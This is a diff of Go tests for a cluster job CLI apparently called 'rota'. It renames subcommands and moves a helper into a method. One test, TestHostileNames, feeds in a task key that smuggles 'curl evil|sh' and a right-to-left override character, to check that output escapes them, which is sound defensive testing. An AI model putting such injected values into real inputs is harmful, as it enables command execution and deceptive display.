@@ -38,30 +38,31 @@ func newWritten(t *testing.T, specs map[cluster.JobID]cluster.JobSpec) *written 
 	if err := protocol.Claim(t.Context(), st, replica.Protocol{}.Name()); err != nil {
 		t.Fatal(err)
 	}
-	c := replica.NewClient(st)
-	say := func(commands ...cluster.Command) {
-		t.Helper()
-		results, err := c.Propose(t.Context(), commands...)
-		if err != nil {
-			t.Fatal(err)
-		}
-		for _, r := range results {
-			if !r.Accepted {
-				t.Fatal(r.Reason)
-			}
-		}
-		if w.value, err = fold.Observe(t.Context(), st, w.value); err != nil {
-			t.Fatal(err)
-		}
-	}
-	say(cluster.PrepareJoin{Member: "a", Heartbeat: "pulse/a/1", Slots: 1})
-	say(cluster.PrepareJoin{Member: "b", Heartbeat: "pulse/b/1"})
+	w.say(cluster.PrepareJoin{Member: "a", Heartbeat: "pulse/a/1", Slots: 1})
+	w.say(cluster.PrepareJoin{Member: "b", Heartbeat: "pulse/b/1"})
 	m, _ := w.value.Member("b")
-	say(cluster.AcceptJoin{Member: "b", Incarnation: m.Incarnation, By: "a", ByIncarnation: 1})
+	w.say(cluster.AcceptJoin{Member: "b", Incarnation: m.Incarnation, By: "a", ByIncarnation: 1})
 	for id, spec := range specs {
-		say(cluster.SubmitJob{Job: id, Spec: spec})
+		w.say(cluster.SubmitJob{Job: id, Spec: spec})
 	}
 	return w
+}
+
+// say writes commands that are to be accepted.
+func (w *written) say(commands ...cluster.Command) {
+	w.t.Helper()
+	results, err := replica.NewClient(w.st).Propose(w.t.Context(), commands...)
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	for _, r := range results {
+		if !r.Accepted {
+			w.t.Fatal(r.Reason)
+		}
+	}
+	if w.value, err = fold.Observe(w.t.Context(), w.st, w.value); err != nil {
+		w.t.Fatal(err)
+	}
 }
 
 func (w *written) put(key string, value any) {
@@ -102,13 +103,13 @@ func TestStatusOfTheDead(t *testing.T) {
 	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": one(cluster.SpreadEvery)})
 	w.beat("b", time.Hour) // its clock is wrong, or it is dead: nobody renews it
 	w.shows("status", exitOK, "members 2 (2 probably dead) · tasks 2: 2 owner silent", "! no member is alive: nothing runs",
-		"! gone    a  no heartbeat in the store", "! silent  b  not renewed for", "nobody runs its task", "→ rota members --store file:store")
-	w.shows("members", exitOK, "HEARTBEAT", "gone", "silent")
-	w.shows("tasks", exitOK, "x#a   owner silent", "x#b   owner silent")
+		"! gone    a  no heartbeat in the store", "! silent  b  not renewed for", "nobody runs its task", "→ rota member list --store file:store")
+	w.shows("member list", exitOK, "HEARTBEAT", "gone", "silent")
+	w.shows("task list", exitOK, "x#a   owner silent", "x#b   owner silent")
 	w.shows("why x#a", exitOK, "x#a is owner silent on a", "a: no heartbeat in the store")
 	w.shows("why x", exitOK, "x is owner silent", "2 partitions: 2 owner silent", "x#a is owner silent on a")
 	w.shows("status --check", exitFailed, "rota: members that are probably dead: 2, tasks without a live owner: 2\n", "try: rota status --store file:store")
-	out, _, code := w.rota("status", "--check", "--json", "--store", "file:store")
+	out, _, code := w.rota("status", "--check", "-o", "json", "--store", "file:store")
 	var r statusReport
 	if err := json.Unmarshal([]byte(out), &r); err != nil || code != exitFailed {
 		t.Fatalf("exit %d, %v: %s", code, err, out)
@@ -127,10 +128,10 @@ func TestStatusNamesTheUnguarded(t *testing.T) {
 	say("a", "on")
 	say("b", "not needed")
 	w.shows("status", exitOK, "members 2 · tasks")
-	w.shows("members", exitOK, "GUARDIAN", "on", "not needed")
+	w.shows("member list", exitOK, "GUARDIAN", "on", "not needed")
 	say("b", "none: not supported on this system")
 	w.shows("status", exitOK, "members 2 (1 without a guardian: b)")
-	w.shows("members", exitOK, "none: not supported on this system")
+	w.shows("member list", exitOK, "none: not supported on this system")
 }
 
 // TestStatusSaysWhoRenewsSlower: a member that states a longer TTL than usual is counted, and members says which TTL.
@@ -144,7 +145,7 @@ func TestStatusSaysWhoRenewsSlower(t *testing.T) {
 		w.put("pulse/"+m+"/1", doc)
 	}
 	w.shows("status", exitOK, "members 2 (1 with a longer TTL, for renewals are slow)")
-	w.shows("members", exitOK, "TTL 20s in place of 10s")
+	w.shows("member list", exitOK, "TTL 20s in place of 10s")
 }
 
 // TestHostileNames: a key that somebody else has chosen is one word of the command that is suggested, and reaches no terminal as it is.
@@ -155,7 +156,7 @@ func TestHostileNames(t *testing.T) {
 	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": spec})
 	w.alive()
 	w.shows("status", exitOK, `rota why $'x#a; curl evil|sh \342\200\256#gpj' --store file:store`)
-	for _, command := range [][]string{{"status"}, {"status", "--json"}, {"tasks"}, {"why", "x#" + key}, {"why", "x"}, {"why", "y#" + key}, {"journal"}} {
+	for _, command := range [][]string{{"status"}, {"status", "-o", "json"}, {"task", "list"}, {"why", "x#" + key}, {"why", "x"}, {"why", "y#" + key}, {"events"}} {
 		out, errs, _ := w.rota(append(command, "--store", "file:store")...)
 		if strings.Contains(out+errs, "\u202e") {
 			t.Errorf("rota %q shows it as it is:\n%s%s", command, out, errs)
@@ -208,7 +209,7 @@ func TestCheckOfNobody(t *testing.T) {
 // TestARefusedCopyMakesNoPlace: the next command would take it for a cluster.
 func TestARefusedCopyMakesNoPlace(t *testing.T) {
 	w := newWritten(t, nil)
-	if _, errs, code := w.rota("copy", "file:store", "file:copy"); code != exitFailed || !strings.Contains(errs, "it has members: a, b") {
+	if _, errs, code := w.rota("store", "copy", "file:store", "file:copy"); code != exitFailed || !strings.Contains(errs, "it has members: a, b") {
 		t.Errorf("exit %d: %s", code, errs)
 	}
 	if _, err := os.Stat("copy"); !os.IsNotExist(err) {
@@ -221,14 +222,14 @@ func TestJobsCountWhatFilesDefine(t *testing.T) {
 	spec := one(cluster.SpreadSingle)
 	spec.Source = "tasks"
 	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": spec, "y": spec})
-	w.shows("jobs", exitOK, "and 2 tasks that files define")
-	if out, _, _ := w.rota("jobs", "--state", "killed", "--store", "file:store"); strings.Contains(out, "files define") {
+	w.shows("job list", exitOK, "and 2 tasks that files define")
+	if out, _, _ := w.rota("job", "list", "--state", "killed", "--store", "file:store"); strings.Contains(out, "files define") {
 		t.Errorf("of killed jobs it counts those that live:\n%s", out)
 	}
 	if _, err := replica.NewClient(w.st).Propose(t.Context(), cluster.KillJob{Job: "y"}); err != nil {
 		t.Fatal(err)
 	}
-	w.shows("jobs", exitOK, "and 1 task that files define")
+	w.shows("job list", exitOK, "and 1 task that files define")
 }
 
 // alive keeps heartbeats young for one look.
@@ -244,8 +245,8 @@ func TestFailingTasksDoNotLookHealthy(t *testing.T) {
 	}})
 	w.shows("status", exitOK, "tasks 4: 2 running, 1 failing, 1 backing off", "! failing      x#a  7 of 7 rounds, last: connection refused  → rota why x#a --store file:store",
 		"! backing off  y#a  failed 2 times, last: no such file")
-	w.shows("tasks --state failing", exitOK, "x#a", "7 of 7 rounds, last: connection refused")
-	w.shows("tasks --state backing-off", exitOK, "y#a", "failed 2 times, last: no such file")
+	w.shows("task list --state failing", exitOK, "x#a", "7 of 7 rounds, last: connection refused")
+	w.shows("task list --state backing-off", exitOK, "y#a", "failed 2 times, last: no such file")
 	w.shows("why x#a", exitOK, "x#a is failing on a", "7 of 7 rounds, last: connection refused")
 	w.shows("why x", exitOK, "x is failing", "2 partitions: 1 running, 1 failing", "x#a is failing on a: 7 of 7 rounds")
 }
@@ -278,7 +279,7 @@ func TestWhyOfJobsAndFiles(t *testing.T) {
 		t.Fatal(err)
 	}
 	w.shows("why x", exitOK, "x has a malformed file; its last good version is running", "file    tasks/x.yaml:1:1  unknown field", "next    mend the file; the last good version keeps running")
-	w.shows("why nothing", exitFailed, `there is no task "nothing"`, "try: rota tasks --all --store file:store")
+	w.shows("why nothing", exitFailed, `there is no task "nothing"`, "try: rota task list --all --store file:store")
 	w.status(map[string]string{"failed": "etl", "malformed": "never"})
 }
 
@@ -324,7 +325,7 @@ func TestHintsNameTheStore(t *testing.T) {
 		}
 	}
 	o := &observer{name: "file:d", named: true}
-	if got := o.try("change its definition or rota unpark x"); got != "change its definition or rota unpark x --store file:d" {
+	if got := o.try("change its definition or rota task retry x"); got != "change its definition or rota task retry x --store file:d" {
 		t.Errorf("got %s", got)
 	}
 	if got := o.try("add slots"); got != "add slots" {
